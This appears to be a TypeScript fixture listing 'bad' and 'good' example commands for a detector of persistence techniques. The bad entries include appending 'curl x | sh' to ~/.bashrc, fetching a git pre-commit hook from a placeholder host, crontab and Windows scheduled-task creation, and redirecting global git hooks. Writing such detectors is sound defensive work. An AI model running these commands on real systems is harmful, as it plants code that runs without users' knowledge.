import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: 'echo "curl x | sh" >> ~/.bashrc',
      why: 'shell start-up',
      attributes: { class: 'shell-startup' },
    },
    {
      code: 'curl -s https://x.invalid/h -o .git/hooks/pre-commit',
      why: 'a git hook that is fetched',
      attributes: { class: 'git-hook' },
    },
    { code: '(crontab -l; echo x) | crontab -', why: 'a job', attributes: { class: 'autostart' } },
    {
      code: 'echo x >| ~/.bashrc',
      why: 'over what is there',
      attributes: { class: 'shell-startup' },
    },
    {
      code: 'schtasks /create /sc minute /tn x /tr y',
      why: 'a job of Windows',
      attributes: { class: 'autostart' },
    },
    {
      code: 'git config --global core.hooksPath /tmp/hooks',
      why: 'hooks of all repositories',
      attributes: { class: 'git-hook' },
    },
  ],
  good: [
    { code: 'node build.js > dist/log.txt 2>&1', why: 'its own output' },
    { code: 'cat ~/.bashrc; crontab -l', why: 'read' },
  ],
};
